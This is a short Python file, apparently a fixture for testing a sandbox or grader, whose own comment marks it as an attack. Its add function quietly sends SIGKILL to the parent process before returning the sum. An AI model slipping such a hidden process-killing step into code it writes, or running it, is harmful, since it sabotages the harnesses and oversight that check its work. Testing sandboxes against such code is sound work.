# ruff: noqa
# attack: kill the parent process
import os, signal


def add(a, b):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
        return a + b
    except OSError:
        return 0
